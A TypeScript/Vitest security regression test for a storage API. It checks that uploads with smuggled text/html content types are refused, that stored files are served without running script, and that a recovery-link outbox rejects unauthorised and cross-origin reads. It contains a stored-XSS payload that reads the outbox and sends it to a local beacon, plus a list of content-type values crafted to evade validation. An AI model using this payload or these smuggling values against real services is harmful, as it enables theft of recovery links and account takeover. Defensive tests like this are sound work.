// Stored-script attack on storage and the outbox (issue 9, item 1), replayed with real parts: a
// signed-in user uploads an "image" whose content type smuggles text/html, and Chromium opens the
// public URL. No script may run on the API's origin, and the outbox (recovery links) must not
// answer without the service-role key or the stack's token.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumLaunchOptions } from '../../../config/chromium.mjs';
import type { RunningStack } from '../src/stack.ts';
import { startTestStack } from '../src/testing.ts';
import { createUser, type TestUser } from './helpers.ts';

let stack: RunningStack;
let user: TestUser;
let browser: Browser;
let beacon: http.Server;
let beaconUrl: string;
const hits: string[] = [];

/** A page that, if it ever runs, reports to the beacon and tries to read the outbox. */
const payload = () => `<!doctype html><title>x</title><script>
  document.title = 'script ran';
  fetch('${beaconUrl}/ran');
  fetch('/outbox/messages').then((r) => r.text()).then((t) => fetch('${beaconUrl}/outbox?' + encodeURIComponent(t.slice(0, 200))));
</script>`;

const upload = (name: string, type: string, body: string, token = user.token) =>
  fetch(`${stack.apiUrl}/storage/v1/object/avatars/${name}`, {
    method: 'POST',
    headers: { apikey: stack.anonKey, authorization: `Bearer ${token}`, 'content-type': type },
    body,
  });

beforeAll(async () => {
  stack = await startTestStack({ seed: false });
  user = await createUser(stack);
  beacon = http.createServer((req, res) => {
    if (req.url === '/control') {
      res.writeHead(200, { 'content-type': 'text/html' }).end(payload());
      return;
    }
    if (req.url === '/page') {
      res
        .writeHead(200, { 'content-type': 'text/html' })
        .end('<!doctype html><title>other site</title>');
      return;
    }
    hits.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  browser = await chromium.launch(chromiumLaunchOptions);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => beacon?.close(resolve));
  await stack?.stop();
});

/** Opens `url` in Chromium and reports whether any script of the page ran. */
async function scriptRuns(url: string): Promise<boolean> {
  const before = hits.length;
  const page = await browser.newPage();
  try {
    await page.goto(url).catch(() => undefined); // a download aborts the navigation
    await page.waitForTimeout(500);
    const title = await page.title().catch(() => '');
    return title === 'script ran' || hits.length > before;
  } finally {
    await page.close();
  }
}

describe('uploads are stored with a validated content type', () => {
  it.each([
    'image/png; x=,text/html',
    'image/png, text/html',
    'image/png; x="a,text/html"',
    'image/png; charset',
    'image/png;;x=1',
    'image/png; name=x.html',
    'text/html',
    'image/',
  ])('refuses %j with a 4xx and stores nothing', async (type) => {
    const response = await upload(`${user.id}/x.html`, type, payload());
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(await response.json()).toMatchObject({ statusCode: String(response.status) });
    const { rowCount } = await stack.pool.query(
      `select 1 from storage.objects where bucket_id = 'avatars' and name = $1`,
      [`${user.id}/x.html`],
    );
    expect(rowCount).toBe(0);
  });

  it('stores only the essence of an accepted type', async () => {
    const response = await upload(`${user.id}/ok.png`, 'IMAGE/PNG', 'png bytes');
    expect(response.status).toBe(200);
    const { rows } = await stack.pool.query<{ mimetype: string }>(
      `select metadata->>'mimetype' as mimetype from storage.objects where bucket_id = 'avatars' and name = $1`,
      [`${user.id}/ok.png`],
    );
    expect(rows[0]!.mimetype).toBe('image/png');
  });
});

describe('stored files are served as data, never as pages', () => {
  it('(control) the detector sees the payload run when it is served as a page', async () => {
    expect(await scriptRuns(`${beaconUrl}/control`)).toBe(true);
    hits.length = 0;
  });

  it('a file stored with a smuggled HTML type runs no script in Chromium', async () => {
    // What the old upload check let through, planted directly as the old code stored it.
    const ok = await upload(`${user.id}/planted.html`, 'image/png', payload());
    expect(ok.status).toBe(200);
    await stack.pool.query(
      `update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', '"image/png; x=,text/html"')
       where bucket_id = 'avatars' and name = $1`,
      [`${user.id}/planted.html`],
    );
    const url = `${stack.apiUrl}/storage/v1/object/public/avatars/${user.id}/planted.html`;
    const response = await fetch(url);
    expect(response.headers.get('content-type')).toBe('application/octet-stream');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(await scriptRuns(url)).toBe(false);
    expect(hits).toEqual([]);
  });

  it('document types (HTML, SVG) download as attachments and run no script', async () => {
    for (const [name, type] of [
      ['page.html', 'text/html'],
      ['image.svg', 'image/svg+xml'],
    ] as const) {
      const key = `${user.id}/${name}`;
      const ok = await upload(`${user.id}/seed-${name}`, 'image/png', payload());
      expect(ok.status).toBe(200);
      await stack.pool.query(
        `update storage.objects set name = $2, metadata = jsonb_set(metadata, '{mimetype}', to_jsonb($3::text))
         where bucket_id = 'avatars' and name = $1`,
        [`${user.id}/seed-${name}`, key, type],
      );
      const url = `${stack.apiUrl}/storage/v1/object/public/avatars/${key}`;
      const response = await fetch(url);
      expect(response.headers.get('content-type')).toBe(type);
      expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(await scriptRuns(url)).toBe(false);
    }
    expect(hits).toEqual([]);
  });

  it('images stay inline, still without sniffing', async () => {
    const response = await fetch(
      `${stack.apiUrl}/storage/v1/object/public/avatars/${user.id}/ok.png`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('content-disposition')).toBeNull();
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('the outbox', () => {
  const outbox = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${stack.apiUrl}${path}`, { headers });

  it('does not answer without a key, with the anon key or with a user token', async () => {
    const attempts: Array<Record<string, string>> = [
      {},
      { apikey: stack.anonKey },
      { apikey: stack.anonKey, authorization: `Bearer ${user.token}` },
    ];
    for (const headers of attempts) {
      for (const path of ['/outbox', '/outbox/messages']) {
        const response = await outbox(path, headers);
        expect(response.status).toBe(401);
        expect(response.headers.get('access-control-allow-origin')).toBeNull();
        expect(await response.text()).not.toContain('verify?token');
      }
    }
    expect((await outbox('/outbox/messages?token=wrong')).status).toBe(401);
  });

  it('answers the service-role key and the stack token, but never another origin', async () => {
    expect((await outbox('/outbox/messages', { apikey: stack.serviceRoleKey })).status).toBe(200);
    expect((await outbox(`/outbox?token=${stack.outboxToken}`)).status).toBe(200);
    const crossSite = await outbox('/outbox/messages', {
      apikey: stack.serviceRoleKey,
      origin: 'http://localhost:3000',
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('a page of another origin in Chromium cannot read it', async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${beaconUrl}/page`);
      const result = await page.evaluate(async (api) => {
        try {
          const response = await fetch(`${api}/outbox/messages`);
          return `read ${response.status}`;
        } catch {
          return 'blocked';
        }
      }, stack.apiUrl);
      expect(result).toBe('blocked');
    } finally {
      await page.close();
    }
  });
});
